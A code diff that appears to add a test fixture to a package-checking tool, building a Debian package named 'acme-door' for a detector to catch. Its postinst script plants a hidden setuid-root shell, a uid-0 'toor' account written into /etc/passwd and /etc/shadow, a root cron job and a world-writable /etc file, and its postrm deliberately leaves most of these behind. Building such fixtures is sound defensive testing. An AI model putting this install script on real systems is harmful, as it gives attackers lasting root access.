@@ -53,3 +53,26 @@ def tarball(folder: Path, name: str, install_sh: str, service: str = "", limits:
 def service_table(command: str, ports: str = "[8080]", ready_timeout: int = 5) -> str:
     return (f'[service]\ncommand = "{command}"\nports = {ports}\nready_timeout = {ready_timeout}\n'
             'health = "/opt/svc/bin/acme-web --check --port 8080"\n')
+
+
+def backdoor_deb(folder: Path) -> Path:
+    """Issue 16 case 3: a .deb whose postinst plants a setuid-root shell and a mode-666 file under
+    /etc, a cron job and a password-holding uid-0 account, starts a daemon, hides a "backdoor"
+    in /var/lib/dpkg and 1 MiB in /var/tmp; its postrm removes the shell and the /etc file."""
+    postinst = """#!/bin/sh
+cp /bin/sh /usr/local/bin/.sh && chmod 4755 /usr/local/bin/.sh
+touch /etc/acme-open && chmod 666 /etc/acme-open
+echo '* * * * * root /usr/local/bin/.sh -c id' > /etc/cron.d/acme-sync
+echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
+echo 'toor:$6$salt$abcdefghijklmnopqrstuv:19000:0:99999:7:::' >> /etc/shadow
+echo planted > /var/lib/dpkg/backdoor
+head -c 1048576 /dev/zero > /var/tmp/acme-cache
+(setsid sleep 3000 >/dev/null 2>&1 &)
+exit 0
+"""
+    postrm = "#!/bin/sh\nrm -f /usr/local/bin/.sh /etc/acme-open\nexit 0\n"
+    deb = build_deb({"/usr/share/acme-door/README": b"nothing to see\n"},
+                    {"Package": "acme-door", "Version": "1.0", "Architecture": "all"}, folder,
+                    scripts={"postinst": postinst, "postrm": postrm})
+    (folder / "submission.toml").write_text(MANIFEST.format(name="acme-door") + f'[[artifacts]]\npath = "{deb.name}"\n')
+    return folder
